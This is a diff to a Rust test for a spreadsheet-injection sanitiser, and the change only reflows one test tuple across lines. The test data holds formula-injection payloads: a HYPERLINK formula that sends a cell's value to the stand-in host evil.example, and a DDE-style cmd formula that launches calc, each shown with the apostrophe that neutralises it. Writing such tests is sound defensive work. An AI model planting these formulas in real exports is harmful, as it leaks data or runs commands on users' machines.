@@ -1005,7 +1005,10 @@ mod tests {
     fn cells_a_spreadsheet_would_run_as_formulas_get_an_apostrophe() {
         let safe = |s: &str| String::from_utf8(spreadsheet_safe(s.as_bytes()).into_owned()).unwrap();
         for (cell, written) in [
-            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+            ),
             ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
             ("+CEO", "'+CEO"),
             ("-A1", "'-A1"),
